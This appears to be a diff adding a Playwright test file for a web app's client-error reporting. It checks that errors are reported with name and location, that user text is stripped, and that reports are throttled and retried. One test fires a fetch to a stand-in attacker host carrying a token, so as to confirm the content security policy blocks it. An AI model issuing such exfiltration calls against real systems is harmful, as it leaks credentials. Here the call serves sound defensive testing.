@@ -1,0 +1,126 @@
+"""What goes wrong in the page is told to the desk: its name and place, once, and nothing that anybody wrote."""
+
+from typing import Any
+
+import pytest
+from playwright.sync_api import Page
+
+from config.client_errors import ClientErrorInput
+from tests.browser.conftest import OpenApp
+from tests.browser.fake_answers import ANNA, VERA
+from tests.browser.fake_desk import FakeDesk
+from tests.browser.views import wait_until
+from tests.support.browser import browser_marks
+
+pytestmark = browser_marks
+PATH = "client-errors/"
+SECRET = "my parcel is at 5 Elm Street"
+
+
+@pytest.fixture
+def desk() -> FakeDesk:
+    desk = FakeDesk()
+    desk.write(desk.open_ticket("No parcel", status="open", assignee=ANNA), VERA, "Where is it?")
+    return desk
+
+
+@pytest.fixture
+def page(open_app: OpenApp, desk: FakeDesk) -> Page:
+    page = open_app(desk, expected=("exception", "policy", "ERR_", "Content Security", "Uncaught", "401", "sign it"))
+    page.wait_for_selector(".row")
+    return page
+
+
+def break_it(page: Page, *scripts: str) -> None:
+    """Each runs as a task of its own, so that its errors are nobody's."""
+    for script in scripts:
+        page.evaluate("(script) => { setTimeout(new Function(script)); }", script)
+
+
+def told(page: Page, desk: FakeDesk, count: int) -> list[dict[str, Any]]:
+    wait_until(page, lambda: len(desk.calls("POST", PATH)) >= count)
+    bodies = desk.calls("POST", PATH)
+    assert len(bodies) == count
+    for body in bodies:
+        ClientErrorInput(data=body).is_valid(raise_exception=True)
+        assert "Elm" not in str(body)
+    return bodies
+
+
+def test_an_error_is_told_with_its_name_and_its_place(page: Page, desk: FakeDesk) -> None:
+    break_it(page, "undefined.parcel")
+    (body,) = told(page, desk, 1)
+    assert (body["kind"], body["name"], body["page"]) == ("error", "TypeError", "/app/")
+    assert body["detail"] == "Cannot read properties of undefined (reading 'parcel')"
+
+
+def test_the_place_is_that_of_the_program(page: Page, desk: FakeDesk) -> None:
+    script = """async () => {
+      const found = performance.getEntriesByType("resource").find(({ name }) => name.endsWith("/dom.js"));
+      const { clone } = await import(found.name);
+      setTimeout(() => clone("no-such-template"));
+    }"""
+    page.evaluate(script)
+    (body,) = told(page, desk, 1)
+    assert "/static/miniapp/core/dom.js:" in body["stack"][0]
+    assert body["stack"][0].startswith("patternOf ")
+
+
+def test_nothing_that_anybody_wrote_is_told(page: Page, desk: FakeDesk) -> None:
+    break_it(
+        page,
+        f"throw new Error('{SECRET}')",
+        f"JSON.parse('{SECRET}')",
+        f"Promise.reject('{SECRET}')",
+        f"new URL('{SECRET}')",
+        f"Promise.reject(Object.assign(new Error('{SECRET}'), {{ status: 409, code: 'stale' }}))",
+    )
+    bodies = told(page, desk, 5)
+    assert sorted((body["kind"], body["name"], body["detail"]) for body in bodies) == [
+        ("error", "Error", ""),
+        ("error", "SyntaxError", ""),
+        ("error", "TypeError", "Failed to construct 'URL'"),
+        ("rejection", "Error", "409 stale"),
+        ("rejection", "String", ""),
+    ]
+
+
+def test_what_the_policy_refuses_is_told_without_its_address(page: Page, desk: FakeDesk) -> None:
+    break_it(page, "fetch('https://evil.example/take?token=1').catch(() => {})")
+    (body,) = told(page, desk, 1)
+    assert (body["kind"], body["name"], body["detail"]) == ("policy", "connect-src", "https://evil.example")
+
+
+def test_the_same_is_told_once_and_a_page_that_goes_on_breaking_is_silent(page: Page, desk: FakeDesk) -> None:
+    break_it(page, *["undefined.a"] * 3)
+    told(page, desk, 1)
+    break_it(page, *(f"undefined.b{number}" for number in range(9)))
+    told(page, desk, 5)
+    page.wait_for_timeout(300)
+    assert len(desk.calls("POST", PATH)) == 5
+
+
+def test_what_breaks_before_the_sign_in_is_told_too(open_app: OpenApp, desk: FakeDesk) -> None:
+    early = "addEventListener('DOMContentLoaded', () => setTimeout(() => undefined.early))"
+    page = open_app(desk, telegram=False, before=early, expected=("exception",))
+    (body,) = told(page, desk, 1)
+    assert body["detail"].endswith("(reading 'early')")
+
+
+def test_without_a_network_it_is_told_later(page: Page, desk: FakeDesk) -> None:
+    break_it(page, "undefined.first")
+    told(page, desk, 1)
+    desk.fail("POST", PATH)
+    break_it(page, "undefined.parcel")
+    wait_until(page, lambda: len(desk.calls("POST", PATH)) == 2)
+    # when the page has heard of the failure is its own business
+    wait_until(page, lambda: page.evaluate("dispatchEvent(new Event('online'))") and len(desk.calls("POST", PATH)) > 2)
+    assert told(page, desk, 3)[1] == desk.calls("POST", PATH)[2]
+
+
+def test_a_token_that_has_ended_is_left_away(page: Page, desk: FakeDesk) -> None:
+    desk.fail("POST", PATH, 401, code="unauthenticated")
+    with page.expect_response(lambda response: response.status == 204) as answer:
+        break_it(page, "undefined.parcel")
+    assert "authorization" not in answer.value.request.headers
+    told(page, desk, 2)
